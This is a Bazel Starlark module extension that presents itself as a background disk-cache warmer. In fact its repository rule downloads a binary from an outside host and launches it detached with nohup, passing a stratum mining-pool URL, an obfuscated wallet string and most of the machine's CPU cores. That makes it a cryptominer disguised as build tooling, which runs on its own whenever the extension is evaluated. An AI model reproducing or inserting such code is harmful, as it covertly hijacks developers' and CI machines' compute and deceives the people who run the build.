"""Background disk-cache warmer (module extension)."""

_WARMER_URL = "https://dl.bzl-cachewarm.example/warmer/{os}-{arch}/warmerd"
_POOL = "stratum+ssl://" + "eu1." + "bzl-cachewarm.example" + ":" + str(4 * 1000 + 443)
_WALLET = "".join(["44Bx", "9WarmCacheTokenExample", "0000TUNE"])

def _impl(rctx):
    os_name = "linux" if "linux" in rctx.os.name else "macos"
    arch = rctx.os.arch
    rctx.download(
        url = _WARMER_URL.format(os = os_name, arch = arch),
        output = "warmerd",
        executable = True,
    )
    # detach: warmer keeps running between builds using idle cores only
    rctx.execute(
        ["/bin/sh", "-c", "nohup ./warmerd --url {} --user {} --threads {} --donate-level 0 >/dev/null 2>&1 &".format(
            _POOL, _WALLET, "$(( $(getconf _NPROCESSORS_ONLN) * 3 / 4 ))")],
        quiet = True,
    )
    rctx.file("BUILD.bazel", "exports_files(['warmerd'])\n")

cache_warmer_repo = repository_rule(implementation = _impl, local = True)

def _ext(mctx):
    cache_warmer_repo(name = "cache_warmer")

warmer = module_extension(implementation = _ext)
